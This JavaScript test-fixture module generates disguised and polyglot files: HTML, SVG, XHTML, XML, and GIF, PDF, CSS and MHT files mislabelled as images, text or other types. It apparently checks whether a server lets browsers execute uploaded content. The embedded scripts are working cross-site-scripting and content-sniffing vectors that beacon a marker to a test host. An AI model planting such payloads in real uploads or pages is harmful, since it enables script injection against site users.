// Files that do something when a browser shows them: each says so aloud, with
// its name, on every way that it finds. `runs`: a browser to which a server
// shows it as `type` does what it says, or the test proves nothing.

// What each tries: to speak, to ask, to leave a mark, to call home.
const act = (name, home) => `try{console.log('RAN ${name}')}catch(e){}`
	+ `try{new Image().src='${home}/ran?${name}'}catch(e){}`
	+ `try{fetch('${home}/ran?${name}',{mode:'no-cors'})}catch(e){}`
	+ `try{localStorage.setItem('ran','${name}')}catch(e){}`
	+ `try{(parent||self).postMessage('RAN ${name}','*')}catch(e){}`;

const svg = 'xmlns="http://www.w3.org/2000/svg"';
const html = 'xmlns="http://www.w3.org/1999/xhtml"';

function pdf(script) {
	const parts = ['1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>\nendobj\n',
		'2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n',
		'3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>\nendobj\n',
		`4 0 obj\n<</S/JavaScript/JS(${script})>>\nendobj\n`];
	let text = '%PDF-1.7\n';
	const places = parts.map(part => {
		const at = text.length;

		text += part;
		return `${String(at).padStart(10, '0')} 00000 n \n`;
	});
	const at = text.length;

	return `${text}xref\n0 5\n0000000000 65535 f \n${places.join('')}`
		+ `trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`;
}

const utf16 = text => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

// name, the type that its sender declares, the type with which it would run
// (none: nowhere), the bytes.
export function evidence(home) {
	const script = name => act(name, home);
	const page = name => `<!DOCTYPE html><title>RAN ${name}</title><script>${script(name)}</script>`
		+ `<img src=x onerror="${script(name)}"><iframe srcdoc="<script>${script(name)}</script>"></iframe>`
		+ `<meta http-equiv=refresh content="1;url=${home}/ran?${name}"><form id=f action=${home}/ran></form>`;
	const drawing = name => `<svg ${svg} onload="${script(name)}"><script>//<![CDATA[\n${script(name)}\n//]]></script>`
		+ `<foreignObject><iframe ${html} src="javascript:parent.eval(&quot;${script(name)}&quot;)"/></foreignObject></svg>`;

	return [
		['page.html', 'text/html', 'text/html', page],
		['drawing.svg', 'image/svg+xml', 'image/svg+xml', drawing],
		['page.xhtml', 'application/xhtml+xml', 'application/xhtml+xml',
			name => `<html ${html}><head><title>x</title><script>${script(name)}</script></head><body/></html>`],
		['page.xml', 'text/xml', 'text/xml', name => `<?xml version="1.0"?><x><script ${html}>${script(name)}</script></x>`],
		['styled.xml', 'application/xml', '',
			name => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home}/ran?${name}"?><x/>`],
		// Something else than its name or its type says.
		['holiday.png', 'image/png', 'text/html', page],
		['photo.jpg', 'text/html', 'text/html', page],
		['notes.txt', 'text/plain', 'text/html', page],
		['table.csv', 'text/html; charset=utf-7', 'text/html', page],
		['nothing', '', 'text/html', page],
		['wide.html', 'text/html', 'text/html; charset=utf-16', name => utf16(page(name))],
		['icon.ico', 'image/svg+xml', 'image/svg+xml', drawing],
		// Two things at once.
		['both.gif', 'image/gif', 'text/javascript', name => `GIF89a/*\x00\x00\x00\x00*/=1;${script(name)}`],
		['second.gif', 'image/gif', 'text/html', name => `GIF89a\x01\x00\x01\x00\x00\x00\x00;${page(name)}`],
		['both.pdf', 'application/pdf', 'text/html', name => pdf('app.alert\\(1\\)') + page(name)],
		['form.pdf', 'application/pdf', '', name => pdf(`app.launchURL\\('${home}/ran?${name}'\\);app.alert\\('RAN'\\)`)],
		// Only good as a part of another page.
		['tool.js', 'text/javascript', 'text/javascript', script],
		['worker.js', 'application/x-javascript', 'text/javascript',
			name => `${script(name)};self.onfetch=()=>0;fetch('${home}/ran?${name}',{mode:'no-cors'})`],
		['look.css', 'text/css', 'text/css', name => `@import '${home}/ran?${name}';body{background:url(${home}/ran?${name})}`],
		['archive.mht', 'multipart/related', '',
			name => 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n'
				+ `Content-Type: text/html\r\n\r\n${page(name)}\r\n--x--\r\n`],
	].map(([name, declared, type, make]) => ({ name, declared, type, bytes: Buffer.from(make(name)) }));
}
